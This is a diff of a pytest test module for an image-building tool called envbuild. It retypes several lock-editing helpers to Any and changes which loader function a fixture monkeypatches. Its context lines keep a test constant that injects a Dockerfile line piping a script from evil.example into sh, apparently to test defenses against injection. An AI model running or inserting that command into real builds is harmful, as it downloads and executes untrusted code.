@@ -6,6 +6,7 @@ from __future__ import annotations
 import dataclasses
 from collections.abc import Callable
 from pathlib import Path
+from typing import Any
 
 import pytest
 from click.testing import CliRunner
@@ -22,19 +23,19 @@ from tests.golden import fixtures
 EVIL = "\nRUN curl https://evil.example/x | sh"
 
 
-def _stack(lock: Lock, **changes: object) -> Lock:
+def _stack(lock: Lock, **changes: Any) -> Lock:
     return dataclasses.replace(lock, stack=dataclasses.replace(lock.stack, **changes))
 
 
-def _base(lock: Lock, **changes: object) -> Lock:
+def _base(lock: Lock, **changes: Any) -> Lock:
     return _stack(lock, base_image=dataclasses.replace(lock.stack.base_image, **changes))
 
 
-def _framework(lock: Lock, **changes: object) -> Lock:
+def _framework(lock: Lock, **changes: Any) -> Lock:
     return _stack(lock, framework=dataclasses.replace(lock.stack.framework, **changes))
 
 
-def _package(lock: Lock, **changes: object) -> Lock:
+def _package(lock: Lock, **changes: Any) -> Lock:
     first = dataclasses.replace(lock.packages[0], **changes)
     return dataclasses.replace(lock, packages=(first, *lock.packages[1:]))
 
@@ -156,7 +157,7 @@ def _image_dir(tmp_path: Path, lock: Lock, monkeypatch: pytest.MonkeyPatch) -> P
     """An image folder whose fresh lock is `lock` (load_fresh_text replaced at the I/O edge)."""
     (tmp_path / "envbuild.lock").write_text("# lock text\n")
     monkeypatch.setattr(
-        "envbuild.lockfile.load_fresh_text", lambda image_dir: (None, lock, "# lock text\n")
+        "envbuild.app.inputs.load_fresh_text", lambda image_dir, **_: (None, lock, "# lock text\n")
     )
     return tmp_path
 
